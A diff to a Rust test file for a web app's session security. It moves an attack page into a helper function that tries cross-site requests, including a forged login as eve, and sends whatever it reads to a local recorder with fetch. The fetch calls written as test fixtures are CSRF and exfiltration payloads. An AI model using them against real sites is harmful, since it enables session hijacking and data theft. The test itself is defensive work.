@@ -177,36 +177,12 @@ fn a_browser_keeps_the_session_of_this_machine_out_of_reach_of_scripts() {
     });
 }
 
-#[test]
-fn a_page_of_another_site_neither_uses_nor_replaces_nor_reads_a_session() {
-    in_stores(&[Store::Database, Store::Cookie], SETUP, |house| {
-        // Cookies are of a host, whatever its port: this one hears what browsers send along to ours.
-        let recorder = Elsewhere::start(String::new());
-        let pixel = recorder.url("");
-        let begin = |next: &str| {
-            page(
-                &format!(
-                    "await fetch('/-/users', {{method: 'POST', headers: json, body: \
-                    JSON.stringify({{email: 'ada@example.org', password: '{PASSWORD}'}})}});\n\
-                await fetch('{pixel}/from-home', {{mode: 'no-cors', credentials: 'include'}});\n\
-                location = '{next}';"
-                ),
-                &recorder,
-            )
-        };
-        let end = page(
-            "const who = await (await fetch('/-/session')).json();\n\
-            say('in the end ' + who.kind + ' ' + who.user?.email + ' ' + JSON.stringify(who.data));",
-            &recorder,
-        );
-        let folder = [("end.html", end)];
-        let house = with_pages(house.store, &folder);
-        let ours = format!("http://127.0.0.1:{}", house.server.address().port());
-        house.user("eve@example.org");
-        // Another site, as browsers see it, which attacks with what needs no leave, and leads back.
-        let attack = page(
-            &format!(
-                "const ours = '{ours}';\n\
+/// A page of another site, which attacks with whatever needs no leave, tells what it could read, and leads back.
+fn attack(ours: &str, recorder: &Elsewhere) -> String {
+    let (pixel, password) = (recorder.url(""), PASSWORD.replace(' ', "+"));
+    page(
+        &format!(
+            "const ours = '{ours}';\n\
             const tries = [\n\
               ['/-/session', {{method: 'POST', headers: {{'Content-Type': 'application/x-www-form-urlencoded'}}, \
                 body: 'email=eve%40example.org&password={password}'}}],\n\
@@ -233,10 +209,38 @@ fn a_page_of_another_site_neither_uses_nor_replaces_nor_reads_a_session() {
             await loaded;\n\
             await fetch('{pixel}/read-' + encodeURIComponent(read).slice(0, 40), {{mode: 'no-cors'}});\n\
             location = ours + '/end.html';",
-                password = PASSWORD.replace(' ', "+"),
-            ),
+        ),
+        recorder,
+    )
+}
+
+#[test]
+fn a_page_of_another_site_neither_uses_nor_replaces_nor_reads_a_session() {
+    in_stores(&[Store::Database, Store::Cookie], SETUP, |house| {
+        // Cookies are of a host, whatever its port: this one hears what browsers send along to ours.
+        let recorder = Elsewhere::start(String::new());
+        let pixel = recorder.url("");
+        let begin = |next: &str| {
+            page(
+                &format!(
+                    "await fetch('/-/users', {{method: 'POST', headers: json, body: \
+                    JSON.stringify({{email: 'ada@example.org', password: '{PASSWORD}'}})}});\n\
+                await fetch('{pixel}/from-home', {{mode: 'no-cors', credentials: 'include'}});\n\
+                location = '{next}';"
+                ),
+                &recorder,
+            )
+        };
+        let end = page(
+            "const who = await (await fetch('/-/session')).json();\n\
+            say('in the end ' + who.kind + ' ' + who.user?.email + ' ' + JSON.stringify(who.data));",
             &recorder,
         );
+        let folder = [("end.html", end)];
+        let house = with_pages(house.store, &folder);
+        let ours = format!("http://127.0.0.1:{}", house.server.address().port());
+        house.user("eve@example.org");
+        let attack = attack(&ours, &recorder);
         let abroad = Elsewhere::start(attack);
         let next = format!("http://localhost:{}/", abroad.address.port());
         let public = house.server.fixture().directory().join("public");
